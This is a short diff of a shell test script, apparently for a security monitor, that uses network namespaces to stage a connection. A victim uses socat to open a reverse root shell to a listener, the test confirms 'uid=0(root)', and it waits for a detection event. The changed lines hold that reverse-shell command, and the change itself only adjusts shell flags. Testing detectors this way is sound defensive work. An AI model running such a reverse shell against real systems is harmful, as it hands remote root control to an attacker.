@@ -16,8 +16,8 @@ step "the scanner listens on 4445 and types id after a second"
 wait_until 5 s_listening 4445 || fail "the listener on the scanner did not start"
 
 step "the victim connects out with a root shell"
-# +m: job control off, or dash's warning about the missing tty shares the prompt's packet.
-timeout 10 ip netns exec "$VNS" socat "TCP:$S4:4445" EXEC:'sh +m -i',stderr </dev/null >"$TMPD/shell.log" 2>&1 &
+# Plain sh -i: dash's warning about the missing tty shares the prompt's packet.
+timeout 10 ip netns exec "$VNS" socat "TCP:$S4:4445" EXEC:'sh -i',stderr </dev/null >"$TMPD/shell.log" 2>&1 &
 wait_until 10 grep -q 'uid=0(root)' "$TMPD/listener.out" ||
 	fail "the listener did not get the shell's answer to id: $(cat "$TMPD/listener.out")"
 wait_for_event "$ROOT_SIG"
